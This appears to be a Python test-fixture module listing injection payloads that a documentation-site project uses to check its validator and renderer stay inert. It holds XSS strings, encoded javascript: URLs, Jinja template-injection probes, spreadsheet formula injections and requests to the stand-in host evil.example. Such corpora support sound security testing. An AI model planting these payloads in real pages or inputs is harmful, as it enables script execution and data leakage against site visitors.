"""The project's own corpus of injection payloads (tests/test_injection.py places each one in every
front-matter text field, in a vocabulary value and in a case body).

Every payload either makes `casebook validate` report a finding where it is placed, or is built
into a page that stays inert: no script runs, no request leaves the site, and the text shows as
written. Payloads that would run script call alert() (a dialog the browser test catches) or load
something from evil.example (a request the browser test catches).
"""

from __future__ import annotations

EVIL = "http://evil.example"

PAYLOADS: tuple[str, ...] = (
    # -- script tags and event handlers, in many tags and letter cases
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    '<img src="assets/cover.png" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="#" onclick="alert(1)">点我</a>',
    '<div onmouseover="alert(1)">悬停</div>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    # -- requests to other hosts
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    f'<table background="{EVIL}/x.png"><tr><td>x</td></tr></table>',
    f'<img src="assets/cover.png" srcset="{EVIL}/x.png 2x">',
    f'<video poster="{EVIL}/x.png"></video>',
    f'<xss style="background:url({EVIL}/x.png)">x</xss>',
    '<div style="background-image:url(//evil.example/x.png)">x</div>',
    f'<a href="https://example.com/" ping="{EVIL}/ping">链接</a>',
    f"![图]({EVIL}/x.png)",
    "![图](//evil.example/x.png)",
    "![图](/\\evil.example/x.png)",
    "![图](assets/cover.png){ src=\"//evil.example/x.png\" }",
    # -- javascript:, vbscript:, data: URLs, encoded and split
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我](&#x6A;&#x61;vascript&#x3A;alert(1))",
    "[点我](java&#x09;script:alert(1))",
    "[点我](java\tscript:alert(1))",
    '<a href="jav&#x0A;ascript:alert(1)">点我</a>',
    '<a href=" javascript:alert(1)">点我</a>',
    "[点我](vbscript:msgbox(1))",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[点我](https://example.com/){ href=\"javascript:alert(1)\" }",
    "段落 { onclick=\"alert(1)\" }",
    "java\x00script:alert(1)",
    # -- SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    f'<svg><image href="{EVIL}/x.png"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点我</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # -- break-outs
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "\" autofocus onfocus=alert(1) \"",
    "a\u2028b\u2029</script>c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    # -- text that a script of the theme could turn back into HTML (Material's content.tooltips
    #    renders title attributes and overflowing TOC entries with innerHTML: disabled in mkdocs.yml)
    '<span title="&lt;img src=x o&#110;error=alert(1)&gt;">悬停</span>',
    '[链接](https://example.com/ "&lt;img src=x o&#110;error=alert(1)&gt;")',
    "## 一个很长很长很长很长很长很长很长很长很长很长的小节标题 &lt;img src=x o&#110;error=alert(1)&gt;",
    # -- templates (MkDocs renders the theme with Jinja: page text must never reach it as a template)
    "{{ 7*7 }}",
    "{{ config.site_name }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${alert(1)}",
    # -- what Markdown and its extensions could make of text
    ":smile:",
    '!!! note "<img src=x onerror=alert(1)>"\n    正文',
    '## 小节 { data-toc-label="<img src=x onerror=alert(1)>" }',
    "## 小节 { #__config }",
    '<span class="md-header">x</span>',
    '--8<-- "README.md"',
    "```html\n<script>alert(1)</script>\n```",
    # -- spreadsheets, terminals, display
    "=HYPERLINK(\"http://evil.example/\",\"点我\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\tcmd",
    "示例\x1b[31m红色",
    "示例\u202e司公",
    "\u2066示例\u2069",
)
